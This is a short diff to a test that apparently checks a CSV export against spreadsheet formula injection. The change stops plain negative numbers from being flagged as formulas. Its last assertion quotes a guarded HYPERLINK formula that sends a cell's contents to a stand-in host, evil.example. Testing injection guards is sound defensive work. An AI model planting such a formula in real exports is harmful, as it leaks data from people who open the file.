@@ -209,7 +209,9 @@ def test_every_csv_cell_of_the_hostile_corpus_is_text_for_a_spreadsheet(case, ca
     for fmt in ("csv", "actors-csv"):
         assert main(["export", fmt, "-f", str(project / "mkdocs.yml")]) == 0
         cells += _csv_cells(capsysbinary.readouterr().out)
-    formulas = [c for c in cells if c.lstrip().startswith(FORMULA) or c.startswith(FORMULA)]
+    # A negative number (a longitude west of Greenwich) is a number to a spreadsheet, and stays one.
+    formulas = [c for c in cells if (c.lstrip().startswith(FORMULA) or c.startswith(FORMULA))
+                and not re.fullmatch(r"-\d+(\.\d+)?", c)]
     assert formulas == [], formulas
     guarded = [c for c in cells if c.startswith("'")]
     assert "' =HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")" in guarded
